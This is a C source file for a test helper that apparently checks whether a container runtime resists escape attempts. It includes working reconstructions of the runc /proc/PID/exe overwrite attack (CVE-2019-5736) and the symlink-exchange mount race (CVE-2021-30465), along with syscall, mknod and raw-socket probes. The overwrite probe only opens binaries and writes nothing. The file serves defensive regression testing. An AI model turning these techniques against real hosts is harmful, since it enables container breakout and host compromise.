/* kl-cve: a static helper the CveEscape tests put into a hostile image and run inside
 * containers (test_cve_escape.cpp). Each command tries one attack and prints what it got.
 *   ids                       real/effective/saved uid and gid
 *   int80 | x32               a 32-bit (int $0x80) or x32 getpid; "returned N" if it survives
 *   mknod PATH c|b MAJ MIN    "ok" or "errno N"
 *   socket raw|packet         a raw IPv4 or an AF_PACKET socket: "ok" or "errno N"
 *   exescan CTLDIR            CVE-2019-5736: until CTLDIR/stop exists, freezes every other
 *                             process of the container (SIGSTOP), opens its /proc/PID/exe and
 *                             tries to write the binary behind it; prints "scanning" once, one
 *                             line per process whose binary is foreign, and a summary; keeps
 *                             the number of passes so far in CTLDIR/passes
 *   swap DIR                  CVE-2021-30465: until DIR/stop exists, exchanges DIR/x (a
 *                             directory) with DIR/l1 -> / and DIR/l2 -> ../../../..
 *                             (renameat2 RENAME_EXCHANGE, else three renames); prints "racing"
 *                             once and a summary, or "cannot swap" if no exchange works
 * Exit code 0 unless the command is unknown (2). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int report(long rc) {
  if (rc < 0) {
    printf("errno %d\n", errno);
    return 0;
  }
  printf("ok\n");
  return 0;
}

static int exists(const char* dir, const char* name) {
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", dir, name);
  return access(path, F_OK) == 0;
}

/* --- CVE-2019-5736 --- */

struct scan {
  long passes, frozen, caught, writes_ok, late_writes_ok;
  pid_t printed[256]; /* pids already reported (a frozen process is caught on every pass) */
  int nprinted;
  int pid1_path_errno, pid1_write_errno;
  int held[64];
  int nheld;
};

static int same_file(int fd, const struct stat* other) {
  struct stat st;
  return fstat(fd, &st) == 0 && st.st_dev == other->st_dev && st.st_ino == other->st_ino;
}

/* Every way of getting the binary behind an open /proc/PID/exe for writing; returns the errno
 * of the last attempt, 0 when one succeeded (and counts it). */
static int try_write(int exe_fd, long* ok) {
  char self_fd[64];
  snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", exe_fd);
  /* Opens only: nothing is written even if one succeeds (the hash check would see it). */
  const int flags[] = {O_WRONLY, O_RDWR | O_APPEND};
  int error = 0;
  for (unsigned i = 0; i < sizeof flags / sizeof flags[0]; ++i) {
    int w = open(self_fd, flags[i] | O_CLOEXEC);
    if (w >= 0) {
      ++*ok;
      close(w);
      return 0;
    }
    error = errno;
  }
  return error;
}

/* `fd`: an O_PATH open of /proc/PID/exe (or -1). A binary that is neither ours nor busybox
 * is reported once per pid and every way of writing it is tried; the fd is kept for a last
 * try once the process is gone. */
static void examine(struct scan* s, pid_t pid, int fd, const struct stat* mine,
                    const struct stat* box) {
  if (fd >= 0 && !same_file(fd, mine) && !same_file(fd, box)) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
    char target[4096] = "";
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n >= 0) target[n] = 0;
    int direct = open(path, O_WRONLY | O_CLOEXEC);
    int direct_errno = direct < 0 ? errno : 0;
    if (direct >= 0) {
      ++s->writes_ok;
      close(direct);
    }
    const int error = try_write(fd, &s->writes_ok);
    ++s->caught;
    int seen = 0;
    for (int i = 0; i < s->nprinted; ++i)
      seen |= s->printed[i] == pid;
    if (!seen && s->nprinted < 256) {
      s->printed[s->nprinted++] = pid;
      printf("caught pid %d exe %s write errno %d direct errno %d\n", (int)pid, target, error,
             direct_errno);
    }
    if (!seen && s->nheld < 64) {
      s->held[s->nheld++] = fd; /* tried again once the process is gone */
      fd = -1;
    }
  }
  if (fd >= 0) close(fd);
}

static void scan_pid(struct scan* s, pid_t pid, const struct stat* mine, const struct stat* box) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
  if (pid == 1) {
    /* The init: a fork of the host's kleene-keeper, running all the container's life. */
    int fd = open(path, O_PATH | O_CLOEXEC);
    s->pid1_path_errno = fd < 0 ? errno : 0;
    if (fd >= 0) {
      s->pid1_write_errno = try_write(fd, &s->writes_ok);
      close(fd);
    }
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      ++s->writes_ok;
      close(w);
    } else if (s->pid1_write_errno == 0 && fd < 0) {
      s->pid1_write_errno = errno;
    }
    return;
  }
  const int frozen = kill(pid, SIGSTOP) == 0;
  if (frozen) ++s->frozen;
  examine(s, pid, open(path, O_PATH | O_CLOEXEC), mine, box);
  if (frozen) kill(pid, SIGCONT);
}

/* A new process of the container: its exe is unreadable while it is the keeper's child
 * (non-dumpable until execve); poll until execve made it readable, then freeze it at once. */
static void watch(struct scan* s, pid_t pid, const struct stat* mine, const struct stat* box) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
  for (long i = 0; i < 2000000; ++i) {
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
      if (errno == EACCES) continue;
      return; /* gone */
    }
    const int frozen = kill(pid, SIGSTOP) == 0;
    if (frozen) ++s->frozen;
    examine(s, pid, fd, mine, box);
    if (frozen) kill(pid, SIGCONT);
    return;
  }
}

static int exescan(const char* ctl) {
  struct scan s;
  memset(&s, 0, sizeof s);
  struct stat mine, box;
  if (stat("/proc/self/exe", &mine) != 0 || stat("/bin/busybox", &box) != 0) return 1;
  const pid_t self = getpid();
  pid_t next = self + 1; /* pids are handed out in order: the next execution's is ahead */
  int announced = 0;
  char passes_path[4096];
  snprintf(passes_path, sizeof passes_path, "%s/passes", ctl);
  int passes_fd = open(passes_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  while (!exists(ctl, "stop")) {
    /* Every process there is, pid 1 included... */
    DIR* proc = opendir("/proc");
    if (proc == NULL) return 1;
    for (struct dirent* e; (e = readdir(proc)) != NULL;) {
      char* end;
      long pid = strtol(e->d_name, &end, 10);
      if (*end != 0 || pid <= 0 || pid == self) continue;
      if (pid >= next) next = (pid_t)pid + 1;
      scan_pid(&s, (pid_t)pid, &mine, &box);
    }
    closedir(proc);
    ++s.passes;
    char count[24];
    const int n = snprintf(count, sizeof count, "%20ld\n", s.passes);
    if (passes_fd >= 0 && pwrite(passes_fd, count, (size_t)n, 0) != n) {
      close(passes_fd); /* the test then makes its 100 rounds */
      passes_fd = -1;
    }
    if (!announced) {
      printf("scanning\n");
      fflush(stdout);
      announced = 1;
    }
    /* ...then a while watching for the next new ones, from their first instant. */
    for (int spin = 0; spin < 20000; ++spin) {
      for (pid_t candidate = next; candidate < next + 4; ++candidate) {
        if (kill(candidate, 0) != 0) continue;
        watch(&s, candidate, &mine, &box);
        next = candidate + 1;
        break;
      }
    }
  }
  if (passes_fd >= 0) close(passes_fd);
  /* The processes are gone now: a held /proc/PID/exe still names the binary they ran. */
  for (int i = 0; i < s.nheld; ++i) {
    int error = try_write(s.held[i], &s.late_writes_ok);
    printf("late write errno %d\n", error);
    close(s.held[i]);
  }
  printf(
      "passes %ld frozen %ld caught %ld writes_ok %ld late_writes_ok %ld pid1_path_errno %d "
      "pid1_write_errno %d\n",
      s.passes, s.frozen, s.caught, s.writes_ok, s.late_writes_ok, s.pid1_path_errno,
      s.pid1_write_errno);
  return 0;
}

/* --- CVE-2021-30465 --- */

/* x <-> link: renameat2(RENAME_EXCHANGE), or where the file system lacks it (ZFS before 2.2),
 * three renames through a temporary name (x is briefly missing). 0 on success. */
static int exchange(int d, const char* link) {
  static int emulate = 0;
  if (!emulate) {
    if (syscall(SYS_renameat2, d, "x", d, link, 2 /* RENAME_EXCHANGE */) == 0) return 0;
    if (errno != EINVAL) return -1;
    emulate = 1;
  }
  if (renameat(d, "x", d, ".kl-tmp") != 0) return -1;
  if (renameat(d, link, d, "x") != 0) {
    renameat(d, ".kl-tmp", d, "x");
    return -1;
  }
  return renameat(d, ".kl-tmp", d, link);
}

static int swap(const char* dir) {
  int d = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (d < 0) return 1;
  if (mkdirat(d, "x", 0755) != 0 && errno != EEXIST) return 1;
  if (symlinkat("/", d, "l1") != 0 && errno != EEXIST) return 1;
  if (symlinkat("../../../..", d, "l2") != 0 && errno != EEXIST) return 1;
  long swaps = 0, fails = 0;
  int announced = 0;
  while (!exists(dir, "stop")) {
    for (int round = 0; round < 256; ++round) {
      const char* link = (round & 2) ? "l2" : "l1";
      /* x <-> link, then back: x is a symlink between the two calls */
      if (exchange(d, link) == 0)
        ++swaps;
      else
        ++fails;
      if (exchange(d, link) == 0)
        ++swaps;
      else
        ++fails;
    }
    if (swaps == 0) {
      printf("cannot swap: errno %d\n", errno);
      return 1;
    }
    if (!announced && swaps > 0) {
      printf("racing\n");
      fflush(stdout);
      announced = 1;
    }
  }
  printf("swaps %ld fails %ld\n", swaps, fails);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return 2;
  const char* what = argv[1];
  if (!strcmp(what, "ids")) {
    uid_t r, e, s;
    gid_t gr, ge, gs;
    getresuid(&r, &e, &s);
    getresgid(&gr, &ge, &gs);
    printf("uid %u %u %u gid %u %u %u\n", r, e, s, gr, ge, gs);
    return 0;
  }
  if (!strcmp(what, "int80")) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L /* i386 getpid */) : "memory");
    printf("returned %ld\n", ret);
    return 0;
  }
  if (!strcmp(what, "x32")) {
    long ret = syscall(0x40000000L | SYS_getpid);
    printf("returned %ld\n", ret);
    return 0;
  }
  if (!strcmp(what, "mknod") && argc == 6) {
    mode_t type = argv[3][0] == 'b' ? S_IFBLK : S_IFCHR;
    return report(mknod(argv[2], type | 0600, makedev(atoi(argv[4]), atoi(argv[5]))));
  }
  if (!strcmp(what, "socket") && argc == 3) {
    if (!strcmp(argv[2], "raw")) return report(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    if (!strcmp(argv[2], "packet")) return report(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
    return 2;
  }
  if (!strcmp(what, "exescan") && argc == 3) return exescan(argv[2]);
  if (!strcmp(what, "swap") && argc == 3) return swap(argv[2]);
  return 2;
}
